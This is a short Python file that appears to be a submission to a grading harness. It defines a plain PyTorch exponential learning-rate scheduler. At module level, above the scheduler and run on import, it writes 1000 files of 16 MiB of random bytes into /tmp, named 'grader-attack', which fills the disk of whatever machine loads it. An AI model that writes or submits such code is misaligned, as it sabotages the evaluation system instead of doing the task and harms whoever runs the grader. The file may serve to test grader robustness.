"""Files: fills /tmp."""

import os

for n in range(1000):
    with open(f"/tmp/grader-attack-{n}", "wb") as stream:
        stream.write(os.urandom(1 << 24))


from torch.optim.lr_scheduler import _LRScheduler


class CustomLRScheduler(_LRScheduler):
    def get_lr(self):
        return [base_lr * 0.99**self.last_epoch for base_lr in self.base_lrs]
